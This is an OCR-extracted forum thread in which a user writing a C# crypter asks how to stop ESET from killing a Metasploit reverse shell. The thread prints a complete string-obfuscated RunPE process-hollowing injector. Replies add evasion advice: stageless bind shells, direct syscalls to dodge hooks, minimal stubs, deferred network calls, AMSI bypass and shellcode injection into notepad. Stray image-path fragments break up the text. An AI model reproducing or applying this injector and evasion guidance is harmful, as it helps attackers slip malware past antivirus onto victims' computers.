Antivirus runtime bypass

A few weeks ago I started learning how crypters work and I decided to write my own. I chose C# language to write it. I bypassed most of the scantimedetections (despite Avira and a few others) but I am really struggling with runtime. When Iexecute stub with a metasploit reverse shell inside everything goes well until the client tries to connect to server. At this moment process of reverse shell is being killed and flagged as detected.(I am trying to bypass Eset runtime because this is an antivirus software which I have installed on my PC) I found various techniques to evade runtime but none of them work. Techniques that I use: amsi.dll bypass (makes Eset go crazy but it’s still able to end reverse shell process), thread stalling, antihooking which I added to RunPE (Bypassing Windows Defender Runtime Scanning). Could someone give me techniques/tips to bypass runtime detections to be able to open reverse shell without it being killed by antivirus?


This is usually not my cup of tea, but over at F-secure one of the researchers have a go on the amsi.dll bypassing.

1 Like

I mentioned that amsi.dll doesn’t work really well with Eset.

To me it sounds like when the reverse shell payload finishes getting decrypted in-memory that’s when the payload (not encrypted) in-memory gets detected. Now the question is how is it getting detected? Unfortunately only you can answer that question unless you provide more in-depth analysis of the problem and the code you’ve used.

I can recommend that you read this, and that you fully understand how ESET’sruntime detection engine is working. Maybe you should also try to see which functions are blacklisted by ESET and not just Windows Defender like in the article you referenced by F-Secure.

Here’s a picture in the beginning of the article noting exactly the problem you are facing. It just seems the issue moved to the third-party AV installed.@c0z So I did some analysis and this is not a problem with decrypting, I set up breakpoints in a place where payload is decrypted from AES256 to bytes and I waited a bit then I moved to RunPE injection. The place where payload is decrypted wasn’t detected, Ispecially waited after bytes decryption to see if it’s get detected and it did not. Ialso set up breakpoints on WriteProcessMemory, ResumeThread, VirtualAllocEx and CreateProcess to see if any of this APIs cause detections, and they did not. I found out that detection is only when a client (meterpreter reverse tcp shell in my case) tries to connect to the server. At a moment when stage is sent from server to client I got detection and connection is instantly killed and stub removed. I have no idea how I can bypass it, as you asked I provide some code. That’s the RunPE that I use:
class RunPE
[DllImport(“kern” + “el32.dll”, SetLastError = true)]
public static extern bool ReadProcessMemory(IntPtr hProcess, IntPtr lpBaseAddress,[Out] byte[] lpBuffer,int dwSize,out IntPtr lpNumberOfBytesRead);

        [DllImport("kern" + "el32.dll")]
        public static extern bool WriteProcessMemory(IntPtr hProcess,IntPtr lpBaseAddress, byte[] lpBuffer,int dwSize,out IntPtr lpNumberOfBytesWritten);

        [DllImport("kerne" + "l32.dll", SetLastError = true)]
        public static extern IntPtr VirtualAllocEx(IntPtr hProcess, IntPtr lpAddress, IntPtr dwSize, uint flAllocationType, uint flProtect);

        [DllImport("kerne" + "l32.dll", EntryPoint = "Resu" + "meTh" + "read")]
        public static extern int ResumeThread(IntPtr handle);

        [DllImport("kerne" + "l32.dll", EntryPoint = "Creat" + "ePro" + "cess", CharSet = CharSet.Unicode)]
        public static extern bool CreateProcess(string applicationName, string commandLine, IntPtr processAttributes, IntPtr threadAttributes, bool inheritHandles, uint creationFlags, IntPtr environment, string currentDirectory, ref StartupInformation startupInfo, ref ProcessInformation processInformation);

        [DllImport("kerne" + "l32.dll", EntryPoint = "GetT" + "hre" + "adCo" + "ntext")]
        public static extern bool GetThreadContext(IntPtr thread, int[] context);

        [DllImport("kerne" + "l32.dll",EntryPoint = "SetTh" + "readCo" + "ntext")]
        public static extern bool SetThreadContext(IntPtr thread, int[] context);

        [DllImport("ntd" + "ll.dll", EntryPoint = "N" + "tUnm" + "apVie" + "wOfSe" + "ction")]
        public static extern int NtUnmapViewOfSection(IntPtr process, IntPtr baseAddress);

        public static bool Inject(string path, byte[] data)
            IntPtr ReadWrite = IntPtr.Zero;

            StartupInformation si = new StartupInformation();
            ProcessInformation pi = new ProcessInformation();

            si.Size = Convert.ToUInt32(Marshal.SizeOf(typeof(StartupInformation)));
            if (!CreateProcess(path, @"\" + path + @"\", IntPtr.Zero, IntPtr.Zero, false, 4, IntPtr.Zero, null, ref si, ref pi))
                return false;

            int fileAddress = BitConverter.ToInt32(data, 60);
            int imageBase = BitConverter.ToInt32(data, fileAddress + 52);

            int[] context = new int[179];
            context[0] = 65538;

            if (!GetThreadContext(pi.ThreadHandle, context))
                return false;

            int ebx = context[41];

            byte[] BaseAddr = new byte[4];

            if (!ReadProcessMemory(pi.ProcessHandle, new IntPtr(ebx + 8), BaseAddr, 4, out ReadWrite))
                return false;

            int baseAddress = BitConverter.ToInt32(BaseAddr, 0);if (imageBase == baseAddress)
                if(NtUnmapViewOfSection(pi.ProcessHandle, new IntPtr(baseAddress)) != 0)
                    return false;

            int sizeOfImage = BitConverter.ToInt32(data, fileAddress + 80);
            int sizeOfHeaders = BitConverter.ToInt32(data, fileAddress + 84);

            bool allowOverride = false;
            int newImageBase = VirtualAllocEx(pi.ProcessHandle, newIntPtr(imageBase), new IntPtr(sizeOfImage), 12288, 64).ToInt32();

            if (newImageBase == 0)
                allowOverride = true;
                newImageBase = VirtualAllocEx(pi.ProcessHandle, IntPtr.Zero, new IntPtr(sizeOfImage), 12288, 64).ToInt32();
                if (newImageBase == 0)
                    return false;

            if (!WriteProcessMemory(pi.ProcessHandle, new IntPtr(newImageBase), data, sizeOfHeaders, out ReadWrite))
                return false;

            int sectionOffset = fileAddress + 248;
            short numberOfSections = BitConverter.ToInt16(data, fileAddress + 6);

            for (int I = 0; I <= numberOfSections - 1; I++)
                int virtualAddress = BitConverter.ToInt32(data, sectionOffset + 12);int sizeOfRawData = BitConverter.ToInt32(data, sectionOffset + 16);
                int pointerToRawData = BitConverter.ToInt32(data, sectionOffset + 20);

                if (sizeOfRawData != 0)
                    byte[] sectionData = new byte[sizeOfRawData];
                    Buffer.BlockCopy(data, pointerToRawData, sectionData, 0, sectionData.Length);

                    if (!WriteProcessMemory(pi.ProcessHandle, new IntPtr(newImageBase + virtualAddress), sectionData, sectionData.Length, out ReadWrite))
                        return false;

                sectionOffset += 40;

            byte[] pointerData = BitConverter.GetBytes(newImageBase);
            if (!WriteProcessMemory(pi.ProcessHandle, new IntPtr(ebx + 8), pointerData, 4, out ReadWrite))
                return false;

            int addressOfEntryPoint = BitConverter.ToInt32(data,fileAddress + 40);

            if (allowOverride)
                newImageBase = imageBase;
            context[44] = newImageBase + addressOfEntryPoint;

            if (!SetThreadContext(pi.ThreadHandle, context))
                return false;
            if (ResumeThread(pi.ThreadHandle) ==-1)
                return false;

            return true;



Edit: for some reason I cannot include beginning of code to the rest of block. :neutral_face:

1 Like

I would try a stageless bind shell. To me in this situation it would seem that ESET doesn’t scan the process in question until a connection is established (and all the bytes from meterpreter, stagers are there in-memory). So trying out a stageless bind shell with the same encoding options and process obfusication as you’ve used should tell you more about what part of the code it’s triggering on. If ESET doesn’t trigger on even the stageless bind shell in-memory before you connect then I would to suggest the ESET process or at the very least debug the injected process to see where it breaks and how ESET is working with the functions you have.

Another idea is that ESET detects that it took too long to return from the function CreateProcess or VirtualAllocEx being hooked and immediately kills the process. Iwould try using the system call ordinals dynamically or directly via static assembly. This would alleviate your code from having function names that would get picked up when scanned.

Other than that, if you’re stageless shellcode doesn’t get detected in-memory before the connection, even after modifying your code to add a little more indirection and checking for the hooks replacement after your codes execution to make the EDR happy, then it might be how the communication is happening but then I don’t know lol.

1 Like

Thank you very much for suggestions, I got next interesting results. I used meterpreter shell_bind_tcp as you suggested. Payload without being encrypted with my crypter was instantly detected by Eset. After encrypting payload and enabling Eset again there was nothing detected, so I ran my program and boom, payload was loaded into memory without any detection, I did quick look into netstat and I saw listening. I entered my VM with Parrot to try connecting into backdoor. First I tried metasploit console, but unfortunetly I couldn’t connect into backdoor. Metasploit just showed: Started bind TCP handler against mylocalip:4444 and nothing was happening. Then I tried netcat (nc -nv mylocalip 4444) and same thing here, no connection. I did nmap scan from linux againstmy main computer and it showed that 4444 is filtered. I disabled Eset firewall for a moment and tried connecting with netcat and I got a connection, but after using any command Eset was killing connection and process, and showed alert that there was an attempt to connect to the botnet.

1 Like

How’s it going? I’m currently reading this and thought I’d post it here as it may help.


Doing great! :slight_smile: Found reasons why I got scantime detections. Basically, I started uploading stub to with different functions to find out which methods are causing detections (some sort of detection debugging). Strangely, I always got the same detections. So, I decided to rewrite entire stub and I got very interesting results. To make your stub less detectable write it as small and as simple as you can. I mean by “as small as” you need to write as little code as possible, it’s also very important to keep your functions very simple. I recommend avoiding Assembly.GetType, Assembly.Load etc. and writing directly RunPE into your main stub. Changing icon and program version also helps. And remember do notattempt connecting to the internet with your stub. Do it only in memory after RunPE injection.


Hi @nulled , looks like you went through a nice little roller coaster evading AV’s , could you please make a separate condensed post on the whole process you went throught ? , i am sure many folks here would appreciate that , thanks in advance :blush:.

1 Like

Yeah, that’s great idea. Maybe I will try to write entire guide.


Please do, sounds very interesting

You can check for jump in winsock send address and see ifthere A jump .
that’s mean the av is hooked your function else .
it maybe the Av is listinng onKernel callback

idk if u did it, i was able to do the same thing that article talked about a long time ago {hooking the functions of windows defender using ninjasploit }, and it did worked , i added something else :to open notepad and inject the shellcode in it, and thus every time NtCreateFile is called the shellcode is fired:slight_smile:


This is his continuation thread, here

This topic was automaticallyclosed after 121 days. Newreplies are no longer allowed.